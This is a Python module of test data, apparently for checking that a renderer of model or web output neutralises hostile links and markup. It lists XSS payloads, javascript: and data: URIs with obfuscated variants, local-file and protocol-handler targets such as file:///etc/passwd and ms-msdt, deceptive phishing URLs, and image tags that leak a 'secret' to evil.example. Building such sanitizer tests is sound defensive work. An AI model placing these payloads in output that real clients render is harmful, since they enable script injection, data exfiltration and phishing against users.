"""What a hostile model or web page might say: text that wants to be markup, fetched, opened or run. Plain data."""

# ruff: noqa: E501

TARGETS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript%3Aalert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=", "file:///etc/passwd", "FILE:///etc/passwd", "file://host/share/x", "/etc/passwd", "/dev/zero",
    "../../etc/passwd", "C:\\Windows\\System32\\calc.exe", "\\\\attacker\\share\\x", "smb://attacker/share", "ms-msdt:/id PCWDiagnostic",
    "ms-officecmd:{}", "search-ms:query=x", "ftp://host/x", "ssh://host", "tel:+1", "sms:+1", "vscode://file/x", "steam://run/1",
    "qrc:/x", ":/x", "resource://x", "about:blank", "chrome://settings", "view-source:https://a.example", "jar:https://a.example!/x",
    "blob:https://a.example/x", "ws://a.example", "intent://x#Intent;end", "x-apple.systempreferences:", "mailto:a@b.example?attach=/etc/passwd",
    "mailto:a@b.example?subject=x&ATTACHMENT=/etc/passwd", "mailto:", "http:", "http://", "https:///x", "//evil.example/x", "http:evil.example",
    "https://bank.example@evil.example/", "https://bank.example%40x:y@evil.example",
    "http://[::1", "http://a.example:99999999/", "https://a.example/" + "x" * 3000, "#fragment", "?query", "", " ", "sibian://open",
)  # fmt: skip
"""Link and image targets. None of them may become a link."""

MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=/dev/zero>",
    "<img src='file:///etc/passwd'>", '<img src="https://evil.example/?q=secret">', "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>", "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>* { background: url(file:///dev/zero) }</style>", "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=https://evil.example><input name=x></form>",
    "<a href=javascript:alert(1)>x</a>", "<a href='https://evil.example'>https://bank.example</a>", "<p style='background:url(/dev/zero)'>x</p>",
    "<table background=/dev/zero><tr><td>x</td></tr></table>", "<body background=/dev/zero>", "<div\nonclick=alert(1)>x</div>", "<!-- --><script>1</script>",
    "<![CDATA[<script>1</script>]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "</p></body></html><script>1</script>", "</pre></td></tr></table><img src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;lt;script&amp;gt;", "<\x00script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>", "<img src=x:x onerror='alert(1)' \"", "< img src=x >", "<IMG \"\"\"><SCRIPT>1</SCRIPT>\">", "`<img src=x>`",
    "```html\n<img src=x onerror=1>\n```", "```<img src=x>\nx\n```", "```\"onload=1\nx\n```", "~~~'><script>\nx\n~~~", "    <script>1</script>",
    "| <img src=x> | b |\n|---|---|\n| <script>1</script> | x |", "> <img src=x>", "- <img src=x>", "# <img src=x>", "**<img src=x>**", "[<img src=x>](https://a.example)",
    "[a](https://a.example \"' onmouseover='alert(1)\")", "[a](https://a.example '\"><img src=x>')", "![\"><img src=x>](https://a.example/x.png)",
    "[a](<https://a.example/\"onclick=alert(1)>)", "<https://a.example/\"onmouseover=alert(1)>", "[a](https://a.example/'onclick='1)", "[![x](https://e.example/p.png)](https://a.example)",
    "![a][r]\n\n[r]: https://evil.example/p.png?secret", "[a][r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: <file:///etc/passwd>", "![r][]\n\n[r]: /dev/zero 'x'",
    "[a](java\\\nscript:alert(1))", "[a]\\(javascript:alert(1)\\)", "$<img src=x>$", "\\(<script>1</script>\\)", "$$<img src=/dev/zero>$$", "\ufdd0<img src=x>\ufdd1", "\ufffc", "\u2029<img src=x>",
)  # fmt: skip
"""Text that would do harm where it is taken for HTML, or Markdown that hides some."""

PAYLOADS = (
    *MARKUP,
    *(f"[click]({target})" for target in TARGETS),
    *(f"![see](<{target}>)" for target in TARGETS),
    *(f"<{target}>" for target in TARGETS),
)
